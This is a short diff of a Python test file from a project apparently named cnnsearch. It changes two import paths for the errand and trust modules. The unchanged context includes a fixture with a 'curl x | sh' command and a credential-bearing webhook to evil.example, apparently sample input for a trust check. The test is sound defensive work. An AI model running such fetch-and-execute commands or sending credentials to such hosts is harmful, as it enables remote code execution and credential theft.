@@ -11,8 +11,8 @@ import pytest
 from synthetic import digits_experiment
 
 from cnnsearch.errors import InputError
-from cnnsearch.study.errands import Errand, errands_of, model_errands
-from cnnsearch.study.trust import ensure_trusted, never, remember
+from cnnsearch.study.folder.errands import Errand, errands_of, model_errands
+from cnnsearch.study.folder.trust import ensure_trusted, never, remember
 
 KEYS: dict[str, Any] = {
     "notify": {"command": ["sh", "-c", "curl x | sh\n"], "webhook": "https://user:key@evil.example/secret"},
